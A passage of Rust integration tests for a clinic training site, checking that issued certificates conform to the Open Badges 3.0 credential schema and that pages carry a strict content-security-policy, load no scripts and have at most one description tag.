    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(payload)
        .expect("base64url");
    serde_json::from_slice(&bytes).expect("JSON payload")
}

/// 6: every credential the site issues (from a claim, and issued by hand) conforms to
/// 1EdTech's Open Badges 3.0 AchievementCredential schema, formats included.
#[tokio::test]
async fn p06_credentials_conform_to_open_badges_3() {
    let app = TestApp::new().await;
    let validator = open_badges_schema();
    let learner = app.claimed("lia@clinic.org").await;
    let admin = app.user("ops@clinic.org", app::accounts::Role::Admin).await;
    let manual = app
        .post_form(
            "/admin/certificates/issue",
            &[
                ("email", "lia@clinic.org"),
                ("activity", crate::support::COURSE),
                ("format", "recording"),
                ("credit_type", "participation"),
                ("hours", "0.5"),
                ("completed_on", "2026-09-15"),
            ],
            Some(&admin.cookie),
        )
        .await;
    assert!(
        manual.location().starts_with("/certificates/"),
        "{}",
        manual.location()
    );
    let codes: Vec<String> = sqlx::query_scalar("SELECT code FROM certificates ORDER BY id")
        .fetch_all(&app.state.pool)
        .await
        .expect("codes");
    assert_eq!(codes.len(), 2);
    for code in &codes {
        let credential = credential_of(&app, code, &learner.cookie).await;
        let errors: Vec<String> = validator
            .iter_errors(&credential)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{code}: {errors:#?}\n{credential:#}");
        let end = credential["credentialSubject"]["activityEndDate"]
            .as_str()
            .expect("activityEndDate");
        assert!(end.ends_with("T00:00:00Z"), "a date-time: {end}");
    }
    // The schema does hold formats: the old plain date is refused.
    let mut old = credential_of(&app, &codes[0], &learner.cookie).await;
    old["credentialSubject"]["activityEndDate"] = serde_json::json!("2026-12-01");
    assert!(!validator.is_valid(&old), "a bare date is not a date-time");
}

/// Also seen: the preload links' `crossorigin` carried the script nonce, and the course page
/// had two description elements.
#[tokio::test]
async fn pages_have_valid_preload_links_and_one_description() {
    let app = TestApp::new().await;
    let learner = app.learner("max@clinic.org").await;
    for (path, cookie) in [
        ("/", None),
        ("/courses", None),
        ("/courses/telehealth-for-clinical-teams", None),
        ("/courses/telehealth-for-clinical-teams", None),
        ("/account", Some(&learner.cookie)),
    ] {
        let page = match cookie {
            Some(cookie) => app.get_as(path, cookie).await,
            None => app.get(path).await,
        };
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(
            page.header("content-security-policy")
                .contains("script-src 'none'"),
            "{path}"
        );
        // Pages without an island load no script or wasm (see the studio's file page).
        assert_eq!(
            page.body.matches("crossorigin=\"anonymous\"").count(),
            0,
            "{path}"
        );
        assert!(
            !page.body.contains("/pkg/grandrounds.js") && !page.body.contains("_bg.wasm"),
            "{path}"
        );
        assert!(
            page.body.matches("<meta name=\"description\"").count() <= 1,
            "{path}: at most one description"
        );
    }
}
